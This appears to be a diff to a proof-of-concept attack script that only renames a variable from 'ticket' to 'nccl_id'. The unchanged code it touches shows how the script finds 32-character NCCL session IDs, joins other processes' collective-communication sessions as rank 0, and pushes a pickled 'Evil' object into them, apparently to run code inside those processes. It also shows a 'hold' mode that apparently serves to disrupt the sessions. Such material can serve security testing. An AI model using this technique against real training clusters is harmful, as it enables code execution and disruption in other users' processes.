@@ -80,13 +80,13 @@ def owned_by(processes):
     return found
 
 
-def join_as_rank_0(ticket, folder):
+def join_as_rank_0(nccl_id, folder):
     """In a process of its own."""
     process = os.fork()
     if process:
         return process
     with contextlib.suppress(BaseException):
-        comm = Communicator(0, 2, NcclIdHolder(ticket), deadline=2)
+        comm = Communicator(0, 2, NcclIdHolder(nccl_id), deadline=2)
         comm.share_object(Evil(folder), 0, "object")
         comm.all_gather_v(_comm.pickled(Evil(folder)), "object")
     os._exit(0)
@@ -122,9 +122,9 @@ def attack(how, folder):
             if name in seen or inode in owned_by({*children, os.getpid()}):
                 continue
             seen.add(name)
-            for ticket in re.findall("[0-9a-f]{32}", name):
+            for nccl_id in re.findall("[0-9a-f]{32}", name):
                 if how == "join":
-                    children.add(join_as_rank_0(ticket, folder))
+                    children.add(join_as_rank_0(nccl_id, folder))
             for other in neighbours(name):
                 if how == "hold":
                     hold(other, held)
